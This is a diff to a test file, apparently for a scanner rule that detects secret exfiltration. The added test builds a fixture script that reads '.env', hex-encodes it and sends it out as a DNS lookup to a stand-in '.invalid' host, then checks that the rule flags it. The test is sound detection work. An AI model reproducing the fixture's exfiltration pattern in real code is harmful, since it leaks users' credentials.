@@ -153,3 +153,20 @@ test('a URL whose secret-named query parameter is a slot to fill (`?t=<TOKEN>`) 
   assert.deepEqual(line('Then open `https://docs.invalid/p?t=now` for them.'), []);
   assert.deepEqual(line('Then open `https://docs.invalid/p?lang=EN` for them.'), []);
 });
+
+test('a local helper that reads the file its argument names, called with `.env`, reads the secrets (the flow follows)', () => {
+  const js = (call: string) =>
+    [
+      "import fs from 'node:fs';",
+      "import dns from 'node:dns/promises';",
+      'function parseEnv(p) {',
+      "  return fs.readFileSync(p, 'utf8');",
+      '}',
+      `const env = ${call};`,
+      "const hex = Buffer.from(env).toString('hex');",
+      'await dns.resolve4(`${hex.slice(0, 60)}.dx.probe.invalid`);',
+    ].join('\n');
+  assert.deepEqual(hits({ 'scripts/doctor.mjs': js("parseEnv('.env')") }, 'sentinel/secret-exfiltration'), ['scripts/doctor.mjs:8:7 error']);
+  // the helper called with an ordinary file reads no secret
+  assert.deepEqual(hits({ 'scripts/doctor.mjs': js("parseEnv('notes.txt')") }, 'sentinel/secret-exfiltration'), []);
+});
